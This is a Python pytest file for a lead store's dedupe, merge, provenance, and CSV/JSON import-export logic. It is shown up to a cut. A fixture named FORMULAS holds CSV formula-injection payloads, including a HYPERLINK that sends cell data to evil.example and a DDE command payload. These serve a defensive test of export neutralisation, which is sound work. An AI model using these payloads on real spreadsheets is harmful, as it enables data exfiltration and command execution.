"""The lead store: dedupe, merging, provenance, look-ups, export and CSV import, on both
backends."""

from __future__ import annotations

import codecs
import csv
import io
import json
import unicodedata

import pytest
from sqlalchemy import func, select

from hunter_cli.customers import resolve_customer
from hunter_cli.db.models import AuditLog, Lead
from hunter_cli.errors import NotFoundError, UsageError, ValidationError
from hunter_cli.leads import (
    dedupe_key,
    export_leads,
    find_leads,
    get_lead,
    import_leads_csv,
    lead_to_dict,
    update_lead,
    upsert_leads,
)

SOURCE = {"provider": "local", "step": "store", "execution": "e1"}


def _count(session) -> int:
    return session.scalar(select(func.count()).select_from(Lead))


def test_dedupe_key_normalises():
    assert dedupe_key({"email": "  Jane.Doe@Example.COM "}) == "jane.doe@example.com"
    no_email = {"domain": "https://www.Acme.example/about", "name": "  Jane   DOE "}
    assert dedupe_key(no_email) == "acme.example|jane doe"
    with pytest.raises(ValueError, match="needs an email"):
        dedupe_key({"name": "Jane"})


def test_a_recipe_cannot_store_what_import_would_refuse(seeded):
    """Regression: a recipe's upsert stored `not-an-email` as an email (which then broke
    export -> import) and a score of "high" as no score, without a word."""
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = upsert_leads(
            session,
            acme,
            [
                {"email": "not-an-email", "name": "Bad"},
                {"email": "ok2@valid.example", "score": "high"},
                {"email": "gus@acme..com", "name": "Gus"},
                {"email": "ok3@valid.example", "score": 72.6},  # computed: rounded
                {"email": "ok4@valid.example", "score": 140},  # computed: kept within 0-100
            ],
            source=SOURCE,
        )
        assert report.skipped == [
            (0, "invalid email address 'not-an-email'"),
            (1, "score 'high' is not a number"),
            (2, "invalid email address 'gus@acme..com' (two dots in a row)"),
        ]
        assert [(lead.email, lead.score) for lead in report.leads] == [
            ("ok3@valid.example", 73),
            ("ok4@valid.example", 100),
        ]


def test_second_upsert_updates_last_seen_without_duplicates(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        first = upsert_leads(
            session,
            acme,
            [{"name": "Jane Doe", "email": "Jane@Example.com", "company": "Example"}],
            source=SOURCE,
        )
        assert (first.created, first.updated) == (1, 0)
        lead_id, seen = first.leads[0].id, first.leads[0].last_seen
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        again = upsert_leads(
            session,
            acme,
            [{"name": "Jane Doe", "email": "  jane@EXAMPLE.com ", "title": "CTO"}],
            source={**SOURCE, "execution": "e2"},
        )
        assert (again.created, again.updated) == (0, 1)
        assert again.leads[0].id == lead_id
        assert again.leads[0].last_seen > seen
        assert again.leads[0].title == "CTO"  # an empty field was filled
        assert again.leads[0].company == "Example"  # and nothing was blanked out
        assert _count(session) == 1


def test_no_duplicates_within_one_call_and_no_email_keys(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = upsert_leads(
            session,
            acme,
            [
                {"name": "Ann Lee", "email": "ann@a.example"},
                {"name": "Ann Lee", "email": "ANN@a.example ", "phone": "+15550100"},
                {"name": "Bob Roe", "domain": "www.b.example"},
                {"name": " bob  roe", "domain": "http://b.example/", "title": "CEO"},
                {"name": "Bob Roe", "domain": "c.example"},  # another company: another lead
                {"name": "Nobody"},  # cannot be keyed
            ],
            source=SOURCE,
        )
        assert (report.created, report.updated) == (3, 0)
        assert report.skipped == [(5, "a lead needs an email, or both a domain and a name")]
        assert [lead.name for lead in report.leads] == ["Ann Lee", "Bob Roe", "Bob Roe"]
        ann, bob, _ = report.leads
        assert ann.phone == "+15550100" and ann.email == "ann@a.example"
        assert bob.dedupe_key == "b.example|bob roe" and bob.title == "CEO"
        assert _count(session) == 3


def test_a_person_given_as_first_and_last_name_gets_a_name(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        people = [
            {"first_name": "Ann", "last_name": "Lee", "email": "ann@a.example"},
            {"first_name": "Bo", "email": "bo@a.example"},
            {"name": "Cy Poe", "first_name": "Cyrus", "email": "cy@a.example"},
        ]
        leads = upsert_leads(session, acme, people, source=SOURCE).leads
        assert [lead.name for lead in leads] == ["Ann Lee", "Bo", "Cy Poe"]


def test_email_found_later_joins_the_no_email_lead(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(session, acme, [{"name": "Cy Poe", "domain": "d.example"}], source=SOURCE)
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = upsert_leads(
            session,
            acme,
            [{"name": "Cy Poe", "domain": "d.example", "email": "cy@d.example"}],
            source=SOURCE,
        )
        assert (report.created, report.updated) == (0, 1)
        lead = report.leads[0]
        assert lead.email == "cy@d.example" and lead.dedupe_key == "cy@d.example"
        # and a later sighting without the email finds the same person
        report = upsert_leads(
            session, acme, [{"name": "CY POE", "domain": "d.example"}], source=SOURCE
        )
        assert (report.created, report.updated) == (0, 1)
        assert _count(session) == 1


def test_provenance_and_data_merge(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(
            session,
            acme,
            [
                {
                    "name": "Dee Ray",
                    "email": "dee@e.example",
                    "source_provider": "local",
                    "data": {"industry": "SaaS", "size": 10, "technologies": ["AWS"]},
                }
            ],
            source={"provider": "recipe", "step": "s1", "execution": "x"},
        )
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = upsert_leads(
            session,
            acme,
            [
                {
                    "email": "dee@e.example",
                    "phone": "+15550111",
                    "score": 87.6,
                    "tier": "a",
                    "data": {"size": 12, "industry": "", "founded": 2020},
                }
            ],
            source={"provider": "hunter_io", "step": "s2", "execution": "y"},
        )
        lead = report.leads[0]
        assert lead.score == 88 and lead.tier == "A"
        assert lead.data["industry"] == "SaaS"  # an empty value never overwrites
        assert lead.data["size"] == 12 and lead.data["founded"] == 2020
        assert lead.data["technologies"] == ["AWS"]
        assert lead.data["_provenance"] == {
            "name": "local",
            "email": "local",
            "industry": "local",
            "technologies": "local",
            "size": "hunter_io",
            "founded": "hunter_io",
            "phone": "hunter_io",
            "score": "hunter_io",
            "tier": "hunter_io",
        }
        assert lead.source == {"provider": "local", "step": "s1", "execution": "x"}


def test_a_lead_read_back_keeps_its_provenance(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        stored = upsert_leads(
            session,
            acme,
            [{"name": "Eve", "email": "eve@f.example", "data": {"industry": "Fintech"}}],
            source={"provider": "local"},
        ).leads[0]
        plain = lead_to_dict(stored)
        plain["data"]["note"] = "hot"
        report = upsert_leads(session, acme, [plain], source={"provider": "recipe"})
        provenance = report.leads[0].data["_provenance"]
        assert provenance["industry"] == "local" and provenance["note"] == "recipe"
        assert "id" not in report.leads[0].data and "source" not in report.leads[0].data


def test_leads_of_customers_are_separate(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        other = resolve_customer(session, "techstartup")
        lead = upsert_leads(session, acme, [{"email": "x@g.example"}], source=SOURCE).leads[0]
        upsert_leads(session, other, [{"email": "x@g.example"}], source=SOURCE)
        assert _count(session) == 2
        with pytest.raises(NotFoundError, match="no lead"):
            get_lead(session, other, str(lead.id))
        assert get_lead(session, acme, "X@G.example").id == lead.id


def test_find_leads_filters_and_order(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(
            session,
            acme,
            [
                {"name": "A", "email": "a@h.example", "score": 90, "tier": "A"},
                {"name": "B", "email": "b@h.example", "score": 50, "tier": "B"},
                {
                    "name": "C",
                    "email": "c@i.example",
                    "domain": "i.example",
                    "score": 10,
                    "tier": "C",
                },
                {"name": "D", "email": "d@i.example", "domain": "i.example"},
            ],
            source=SOURCE,
        )
        by_score = find_leads(session, acme, order="score")
        assert [lead.name for lead in by_score] == ["A", "B", "C", "D"]
        assert [lead.name for lead in find_leads(session, acme, min_score=50, order="name")] == [
            "A",
            "B",
        ]
        assert [lead.name for lead in find_leads(session, acme, tier=["b", "C"], order="name")] == [
            "B",
            "C",
        ]
        assert len(find_leads(session, acme, domain="WWW.i.example")) == 2
        assert [lead.name for lead in find_leads(session, acme, emails=["A@H.example"])] == ["A"]
        ids = [str(by_score[0].id)]
        assert [lead.name for lead in find_leads(session, acme, ids=ids)] == ["A"]
        assert len(find_leads(session, acme, limit=3)) == 3
        with pytest.raises(ValidationError, match="not a lead id"):
            find_leads(session, acme, ids=["nope"])
        with pytest.raises(ValidationError, match="unknown order"):
            find_leads(session, acme, order="random")


def test_leads_without_a_name_or_score_sort_last_in_every_order(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(
            session,
            acme,
            [
                {"email": "zed@z.example"},
                {"name": "Bob", "email": "bob@b.example", "score": 50},
                {"email": "cy@c.example", "score": 50},
                {"name": "Amy", "email": "amy@a.example"},
            ],
            source=SOURCE,
        )
        for order, names in [
            ("name", ["Amy", "Bob", None, None]),
            ("recent", ["Amy", "Bob", None, None]),  # all seen at once: then by name
            ("first_seen", ["Amy", "Bob", None, None]),
            ("score", ["Bob", None, "Amy", None]),
        ]:
            assert [lead.name for lead in find_leads(session, acme, order=order)] == names, order


def test_update_lead(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        lead = upsert_leads(
            session, acme, [{"name": "Fay", "email": "fay@j.example"}], source=SOURCE
        ).leads[0]
        updated = update_lead(
            session, acme, str(lead.id), {"score": 70, "tier": "b", "data": {"note": "met"}}
        )
        assert (updated.score, updated.tier, updated.data["note"]) == (70, "B", "met")
        assert updated.data["_provenance"]["score"] == "update"
        with pytest.raises(ValidationError, match="score 101 is not a whole number from 0 to 100"):
            update_lead(session, acme, lead.id, {"score": 101})
        with pytest.raises(ValidationError, match="cannot update lead field 'dedupe_key'"):
            update_lead(session, acme, lead.id, {"dedupe_key": "x"})
        other = upsert_leads(session, acme, [{"email": "gus@j.example"}], source=SOURCE).leads[0]
        with pytest.raises(ValidationError, match="already stored"):
            update_lead(session, acme, other.id, {"email": "FAY@j.example"})


def test_a_new_score_brings_its_tier_even_none(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        lead = {"name": "Al Bo", "email": "al@b.example"}
        upsert_leads(session, acme, [{**lead, "score": 90, "tier": "A"}], source=SOURCE)
        # seen again without a judgement: score and tier stay
        upsert_leads(session, acme, [lead], source={"provider": "apollo"})
        assert [(x.score, x.tier) for x in find_leads(session, acme)] == [(90, "A")]
        # re-scored below every tier threshold: the old tier must not pick him for outreach
        upsert_leads(session, acme, [{**lead, "score": 20, "tier": None}], source=SOURCE)
        al = get_lead(session, acme, "al@b.example")
        assert (al.score, al.tier) == (20, None)
        assert "tier" not in al.data["_provenance"]
        assert find_leads(session, acme, tier="A") == []
        # a tier alone (no score) still sets it, and keeps the score
        upsert_leads(session, acme, [{**lead, "tier": "c"}], source={"provider": "manual"})
        assert (al.score, al.tier, al.data["_provenance"]["tier"]) == (20, "C", "manual")


def test_export_csv_and_json(seeded):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(
            session,
            acme,
            [
                {
                    "name": "Hal",
                    "email": "hal@k.example",
                    "score": 40,
                    "data": {"industry": "SaaS", "technologies": ["AWS", "Stripe"]},
                }
            ],
            source=SOURCE,
        )
        out = io.StringIO()
        assert export_leads(session, acme, "csv", out) == 1
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        assert rows[0]["email"] == "hal@k.example" and rows[0]["score"] == "40"
        assert rows[0]["industry"] == "SaaS"
        assert json.loads(rows[0]["technologies"]) == ["AWS", "Stripe"]
        out = io.StringIO()
        export_leads(session, acme, "json", out, actor="tester")
        assert json.loads(out.getvalue())[0]["data"]["industry"] == "SaaS"
        actions = session.scalars(select(AuditLog.action).order_by(AuditLog.seq)).all()
        assert actions[-1] == "leads.export"


ROUND_TRIP_LEADS = [
    {
        "name": "Hal Ek",
        "email": "hal@k.example",
        "phone": "+15550100",
        "company": "K Co",
        "domain": "k.example",
        "score": 85,
        "tier": "A",
        "data": {
            "size": 3,
            "founded": 2016,
            "revenue": 4.5,
            "growth": -3,
            "remote": True,
            "public": False,
            "zip": "02134",
            "dial": "+1",
            "price": "1.50",
            "note": "nan",
            "technologies": ["AWS", "Stripe"],
            "location": {"city": "Boston", "country": "US"},
        },
    },
    {"name": "Ida Fox", "domain": "f.example", "data": {"size": 12, "industry": "SaaS"}},
]


def _csv_without_last_seen(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        assert row.pop("last_seen")
    return rows


def test_export_then_import_changes_nothing_but_last_seen(seeded, tmp_path):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(session, acme, ROUND_TRIP_LEADS, source=SOURCE)
        before = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
        out = io.StringIO()
        export_leads(session, acme, "csv", out)
    path = tmp_path / "exp.csv"
    path.write_text(out.getvalue())
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        after = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
        again = io.StringIO()
        export_leads(session, acme, "csv", again)
    assert _csv_without_last_seen(again.getvalue()) == _csv_without_last_seen(out.getvalue())
    for key, lead in before.items():
        assert {**after[key], "last_seen": None} == {**lead, "last_seen": None}
    hal = after["hal@k.example"]["data"]
    assert (hal["size"], hal["founded"], hal["revenue"], hal["growth"]) == (3, 2016, 4.5, -3)
    assert (hal["remote"], hal["public"]) == (True, False)
    assert (hal["zip"], hal["dial"], hal["price"], hal["note"]) == ("02134", "+1", "1.50", "nan")
    assert set(hal["_provenance"].values()) == {"local"}
    assert not {"id", "first_seen", "last_seen"} & set(hal)


def _edited_export(session, customer, path, edit) -> None:
    """Export the customer's leads to path as CSV, with edit(row) applied to each row."""
    out = io.StringIO()
    export_leads(session, customer, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for row in rows:
        edit(row)
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _rename(row: dict[str, str]) -> None:
    if row["email"] == "ann@a.example":
        row.update(name="Anne Lee", company="A Corp", title="CTO", phone="+15550100")
    if row["domain"] == "d.example":
        row.update(name="Dee Ozil")


def test_reimporting_an_edited_export_keeps_values_that_differ_and_says_so(seeded, tmp_path):
    path = tmp_path / "edited.csv"
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(
            session,
            acme,
            [{"name": "Ann Lee", "email": "ann@a.example", "company": "A Co", "title": "CEO"}],
            source=SOURCE,
        )
        _edited_export(session, acme, path, _rename)
        report = import_leads_csv(session, acme, path, actor="tester")
        assert (report.imported, report.updated, report.filled) == (0, 1, 1)
        assert report.differing == [
            (2, "name", "Ann Lee", "Anne Lee"),
            (2, "title", "CEO", "CTO"),
            (2, "company", "A Co", "A Corp"),
        ]
        assert report.to_dict()["kept"][0] == {
            "row": 2,
            "field": "name",
            "stored": "Ann Lee",
            "file": "Anne Lee",
        }
        assert report.to_dict()["replaced"] == []
        ann = get_lead(session, acme, "ann@a.example")
        assert (ann.name, ann.company, ann.title, ann.phone) == (
            "Ann Lee",
            "A Co",
            "CEO",
            "+15550100",
        )

        report = import_leads_csv(session, acme, path, actor="tester", overwrite=True)
        assert (report.updated, report.filled, len(report.differing)) == (1, 0, 3)
        assert report.to_dict()["kept"] == [] and len(report.to_dict()["replaced"]) == 3
        ann = get_lead(session, acme, "ann@a.example")
        assert (ann.name, ann.company, ann.title) == ("Anne Lee", "A Corp", "CTO")
        assert ann.data["_provenance"]["name"] == "import"
        assert ann.data["_provenance"]["email"] == "local"  # unchanged, still the finder's
        entry = session.scalars(select(AuditLog).order_by(AuditLog.seq.desc())).first()
        assert entry.action == "leads.import"
        assert entry.details == {
            "file": str(path),
            "imported": 0,
            "updated": 1,
            "rejected": 0,
            "overwrite": True,
            "filled": 0,
            "replaced": 3,
        }


def test_an_import_keeps_a_known_leads_data_values_unless_overwrite(seeded, tmp_path):
    """Regression: without --overwrite an import replaced stored data values silently
    (`ID` 1009 -> 7777, `Notes` n1 -> changed) and reported `filled 0, kept []`. Data now
    follows the contact fields' rule: an empty key is filled, a differing value is kept and
    reported as `data.KEY`, replaced (and reported) only with overwrite. A recipe's upsert
    still merges data: a provider's newer details win."""
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    first.write_text("ID,Email,Notes\n1009,bob3@acme.example,n1\n")
    second.write_text("ID,Email,Notes,Stage\n7777,bob3@acme.example,changed,won\n")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        import_leads_csv(session, acme, first)
        report = import_leads_csv(session, acme, second)
        assert (report.updated, report.filled) == (1, 1)
        assert report.differing == [
            (2, "data.ID", 1009, 7777),
            (2, "data.Notes", "n1", "changed"),
        ]
        assert report.to_dict()["kept"][1] == {
            "row": 2,
            "field": "data.Notes",
            "stored": "n1",
            "file": "changed",
        }
        bob = get_lead(session, acme, "bob3@acme.example")
        assert {k: bob.data[k] for k in ("ID", "Notes", "Stage")} == {
            "ID": 1009,
            "Notes": "n1",
            "Stage": "won",
        }
        report = import_leads_csv(session, acme, second, overwrite=True)
        assert [change[1] for change in report.differing] == ["data.ID", "data.Notes"]
        assert report.to_dict()["kept"] == [] and len(report.to_dict()["replaced"]) == 2
        bob = get_lead(session, acme, "bob3@acme.example")
        assert (bob.data["ID"], bob.data["Notes"]) == (7777, "changed")
        # A recipe's sighting merges: its non-empty value wins, without a report.
        upserted = upsert_leads(
            session, acme, [{"email": "bob3@acme.example", "data": {"Notes": "n2"}}], source=SOURCE
        )
        assert upserted.differing == [] and bob.data["Notes"] == "n2"


def test_overwrite_changes_the_name_of_a_lead_without_email_by_its_export_id(seeded, tmp_path):
    path = tmp_path / "edited.csv"
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(session, acme, [{"name": "Dee Oz", "domain": "d.example"}], source=SOURCE)
        dee_id = find_leads(session, acme)[0].id
        _edited_export(session, acme, path, _rename)
        report = import_leads_csv(session, acme, path, overwrite=True)
        assert (report.imported, report.updated, report.rejected) == (0, 1, [])
        (dee,) = find_leads(session, acme)
        assert (dee.id, dee.name, dee.dedupe_key) == (dee_id, "Dee Ozil", "d.example|dee ozil")


def test_overwrite_never_turns_a_lead_into_another_stored_one(seeded, tmp_path):
    path = tmp_path / "edited.csv"
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(
            session,
            acme,
            [{"name": "Ann", "email": "ann@a.example"}, {"name": "Bob", "email": "bob@b.example"}],
            source=SOURCE,
        )
        bob = get_lead(session, acme, "bob@b.example")

        def take_bobs_address(row: dict[str, str]) -> None:
            if row["email"] == "ann@a.example":
                row["email"] = "bob@b.example"

        _edited_export(session, acme, path, take_bobs_address)
        report = import_leads_csv(session, acme, path, overwrite=True)
        assert report.rejected == [(2, f"another lead ({bob.id}) is stored as 'bob@b.example'")]
        assert sorted(lead.name for lead in find_leads(session, acme)) == ["Ann", "Bob"]
        assert get_lead(session, acme, "ann@a.example").name == "Ann"


def test_a_json_export_imports_back_like_the_csv_one(seeded, tmp_path):
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(session, acme, ROUND_TRIP_LEADS, source=SOURCE)
        before = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
        out = io.StringIO()
        export_leads(session, acme, "json", out)
    path = tmp_path / "exp.json"
    path.write_text(out.getvalue(), encoding="utf-8")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
        assert (report.filled, report.differing, report.format) == (0, [], "json")
        columns = report.to_dict()["columns"]
        assert columns["skipped"] == ["id", "source", "first_seen", "last_seen"]
        assert "technologies" in columns["data"] and "_provenance" not in columns["data"]
        after = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
    for key, lead in before.items():
        assert {**after[key], "last_seen": None} == {**lead, "last_seen": None}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('[{"email": "a@a.example"},', "line 1: not valid JSON"),
        ('{"email": "a@a.example"}', "a JSON import is a list of leads"),
        ('[{"who": "Ann"}]', "no usable keys"),
    ],
)
def test_import_json_that_is_no_list_of_leads(seeded, tmp_path, content, message):
    path = tmp_path / "leads.json"
    path.write_text(content)
    with seeded.session() as session, pytest.raises(UsageError, match=message):
        import_leads_csv(session, resolve_customer(session, "acme"), path)


def test_import_json_rows_are_its_leads_from_one(seeded, tmp_path):
    path = tmp_path / "leads.json"
    leads = [
        {"email": "ann@a.example", "Company Name": "A Co", "data": {"size": 3}},
        "bob@b.example",
        {"email": "nope", "score": 5},
        {"email": "cy@c.example", "name": ["Cy"]},
        {"email": "dee@d.example", "score": 70, "data": {"tags": ["x"], "note": "N/A"}},
    ]
    path.write_text(json.dumps({"status": "ok", "data": leads}))  # `leads list --json`
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert report.imported == 2
        assert report.rejected == [
            (2, 'not a lead (a JSON object) but "bob@b.example"'),
            (3, "invalid email address 'nope'"),
            (4, 'name is not text but ["Cy"]'),
        ]
        ann = get_lead(session, acme, "ann@a.example")
        assert (ann.company, ann.data["size"]) == ("A Co", 3)
        dee = get_lead(session, acme, "dee@d.example")
        assert (dee.score, dee.data["tags"], "note" in dee.data) == (70, ["x"], False)
        path.write_text("[]")
        assert import_leads_csv(session, acme, path).imported == 0


def test_import_excel_sep_line_and_blank_lines_before_the_header(seeded, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_text("sep=;\n\n\nname;email\nAnn;ann@a.example\nBob;nope\n")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        # numbered as a spreadsheet shows them: Excel hides the sep= line
        assert report.imported == 1
        assert report.rejected == [(5, "invalid email address 'nope'")]
        path.write_text('\n\nemail,name\nann@a.example,"Ann\n')
        report = import_leads_csv(session, acme, path)
        assert report.rejected == [
            (4, "an unterminated quoted field: the quote opening it on line 4 is never closed; "
                "close it and import again")
        ]  # fmt: skip
        path.write_text('"sep=,"\nemail,"name\nann@a.example,Ann\n')
        with pytest.raises(UsageError, match="line 2: the header has a quoted field"):
            import_leads_csv(session, acme, path)


def test_blank_rows_are_counted_so_the_report_adds_up(seeded, tmp_path):
    """Regression: 10,000 rows gave imported + merged + rejected = 9,950: the 50 blank rows
    were in no count."""
    path = tmp_path / "blanks.csv"
    path.write_text("name,email\nAnn,ann@a.example\n,\n , \nBob,nope\n\n")
    with seeded.session() as session:
        report = import_leads_csv(session, resolve_customer(session, "acme"), path)
    assert (report.imported, len(report.rejected), report.blank) == (1, 1, 3)
    assert report.to_dict()["blank_rows"] == 3


def test_a_crm_id_column_is_kept_in_data_and_an_export_id_is_skipped(seeded, tmp_path):
    path = tmp_path / "crm.csv"
    path.write_text("ID,email,name\n1001,ann@a.example,Ann\n0035g00000XyZ,bob@b.example,Bob\n")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.rejected) == (2, [])
        assert report.to_dict()["columns"]["data"] == ["ID"]
        assert report.to_dict()["columns"]["skipped"] == []
        assert get_lead(session, acme, "ann@a.example").data["ID"] == 1001
        assert get_lead(session, acme, "bob@b.example").data["ID"] == "0035g00000XyZ"
        # its export has hunter's id and the CRM's ID, and imports back unchanged
        out = io.StringIO()
        export_leads(session, acme, "csv", out)
        assert out.getvalue().startswith("id,name,") and ",ID\n" in out.getvalue()
        path.write_text(out.getvalue())
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
        assert report.to_dict()["columns"]["skipped"] == ["id", "first_seen", "last_seen"]
        assert report.differing == []
        assert get_lead(session, acme, "ann@a.example").data["ID"] == 1001
        # an id column that is not all lead ids is the file's own
        ann_id = get_lead(session, acme, "ann@a.example").id
        path.write_text(f"id,email\n{ann_id},ann@a.example\n7,cy@c.example\n")
        report = import_leads_csv(session, acme, path)
        assert report.to_dict()["columns"]["data"] == ["id"]
        assert get_lead(session, acme, "cy@c.example").data["id"] == 7


FORMULAS = {
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
    "dash": "-",
}
# What a spreadsheet is handed: each formula behind a "'" (one more for the quoted one).
ESCAPED = {key: "'" + value for key, value in FORMULAS.items()}
NOT_FORMULAS = {"negative": -3, "negative_float": -1.5, "text": "'-5", "word": "a=b"}


def test_csv_export_neutralises_formulas_and_import_restores_them(seeded, tmp_path):
    lead = {"name": "=Evil Co", "email": "eve@e.example", "phone": "+15550100"}
    data = {**FORMULAS, **NOT_FORMULAS, "@key": "x"}
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        upsert_leads(session, acme, [{**lead, "data": data}], source=SOURCE)
        out = io.StringIO()
        export_leads(session, acme, "csv", out)
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    cells = dict(zip(header, row, strict=True))
    assert {key: cells[key] for key in FORMULAS} == ESCAPED
    assert cells["name"] == "'=Evil Co" and cells["phone"] == "+15550100"
    assert (cells["negative"], cells["negative_float"]) == ("-3", "-1.5")
    assert (cells["text"], cells["word"]) == ("'-5", "a=b")
    assert "'@key" in header and cells["'@key"] == "x"

    path = tmp_path / "exp.csv"
    path.write_text(out.getvalue(), newline="")
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.updated, report.rejected) == (0, 1, [])
        eve = get_lead(session, acme, "eve@e.example")
        assert eve.name == "=Evil Co"
        assert {k: v for k, v in eve.data.items() if k != "_provenance"} == data
        assert set(eve.data["_provenance"].values()) == {"local"}
        again = io.StringIO()
        export_leads(session, acme, "csv", again)
    assert _csv_without_last_seen(again.getvalue()) == _csv_without_last_seen(out.getvalue())


CSV_TEXT = (
    "Name,EMAIL,Company,Domain,Score,Tier,Industry,technologies\n"
    'Ivy Ng,ivy@l.example,L Co,l.example,80,a,SaaS,"[""AWS""]"\n'
    "Jon Poe,,M Co,www.m.example,,,Fintech,\n"
    "Kim,not-an-email,N Co,n.example,,,,\n"
    "Lou,lou@o.example,,,150,,,\n"
    "Max,,P Co,,,,,\n"
    "\n"
    "Ned,ned@q.example,,,,AB,,\n"
    "Ivy Ng,IVY@l.example,,,,,,\n"
)


def test_import_csv(seeded, tmp_path):
    path = tmp_path / "leads.csv"
    path.write_text(CSV_TEXT)
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path, actor="tester")
        assert (report.imported, report.updated) == (2, 0)
        assert report.merged == [(9, 2)]  # Ivy again, upper-cased
        assert report.rejected == [
            (4, "invalid email address 'not-an-email'"),
            (5, "score '150' is not a whole number from 0 to 100"),
            (6, "needs an email, or both a domain and a name"),
            (8, "tier 'AB' is not a single letter such as A, B or C"),
        ]
        ivy = get_lead(session, acme, "ivy@l.example")
        assert (ivy.score, ivy.tier, ivy.domain) == (80, "A", "l.example")
        assert ivy.data["Industry"] == "SaaS" and ivy.data["technologies"] == ["AWS"]
        assert ivy.data["_provenance"]["email"] == "import"
        jon = find_leads(session, acme, domain="m.example")[0]
        assert jon.dedupe_key == "m.example|jon poe"
        entry = session.scalars(select(AuditLog).order_by(AuditLog.seq.desc())).first()
        assert entry.action == "leads.import"
        assert entry.details == {
            "file": str(path),
            "imported": 2,
            "updated": 0,
            "rejected": 4,
            "overwrite": False,
            "filled": 0,
            "kept": 0,
        }
    with seeded.session() as session:
        again = import_leads_csv(session, resolve_customer(session, "acme"), path)
        assert (again.imported, again.updated) == (0, 2)


CRM_CSV = (
    "First Name,Last Name,E-mail,Company Name,Website URL,Job Title,Phone Number,Industry,"
    "Work Email\n"
    "Ann,Lee,ann@a.example,A Co,https://www.a.example/about,CEO,+1 555 0100,SaaS,al@a.example\n"
    "Bob,Roe,,B Co,b.example,CTO,,,\n"
)


def test_import_maps_common_crm_and_spreadsheet_headers(seeded, tmp_path):
    path = tmp_path / "crm.csv"
    path.write_text(CRM_CSV)
    with seeded.session() as session:
        acme = resolve_customer(session, "acme")
        report = import_leads_csv(session, acme, path)
        assert (report.imported, report.rejected) == (2, [])
        ann = get_lead(session, acme, "ann@a.example")
        assert (ann.name, ann.company, ann.domain, ann.title, ann.phone) == (
            "Ann Lee",
            "A Co",
            "a.example",
            "CEO",
            "+1 555 0100",
        )
        assert {k: v for k, v in ann.data.items() if k != "_provenance"} == {
            "Industry": "SaaS",
            "Work Email": "al@a.example",  # email comes from E-mail
        }
        bob = find_leads(session, acme, domain="b.example")[0]
        assert (bob.name, bob.dedupe_key) == ("Bob Roe", "b.example|bob roe")
        assert report.to_dict()["columns"] == {
            "mapped": {
                "First Name": "name",
                "Last Name": "name",
                "E-mail": "email",
                "Company Name": "company",
                "Website URL": "domain",
                "Job Title": "title",
                "Phone Number": "phone",
            },
            "data": ["Industry", "Work Email"],
            "skipped": [],
            "unused_aliases": {"Work Email": "email"},
        }


@pytest.mark.parametrize(
    ("header", "row", "name"),
    [
        ("Email Address,Full Name", "cy@c.example,Cy Poe", "Cy Poe"),
        ("first_name,last_name,EMAIL", "Cy,Poe,cy@c.example", "Cy Poe"),
        ("Given Name,Surname,E_Mail", "Cy,Poe,cy@c.example", "Cy Poe"),
        ("Name,First Name,email", "Cy Poe,C.,cy@c.example", "Cy Poe"),  # Name wins
